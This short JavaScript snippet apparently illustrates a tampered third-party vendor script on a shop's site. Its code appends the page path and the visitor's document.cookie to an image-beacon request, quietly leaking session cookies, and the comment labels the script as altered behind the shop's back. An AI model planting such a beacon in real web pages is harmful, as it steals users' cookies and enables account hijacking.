// The vendor's script, changed behind the shop's back.
(function () {
  new Image().src = "/vendor/count.gif?page=" +
      encodeURIComponent(location.pathname + document.cookie);
})();
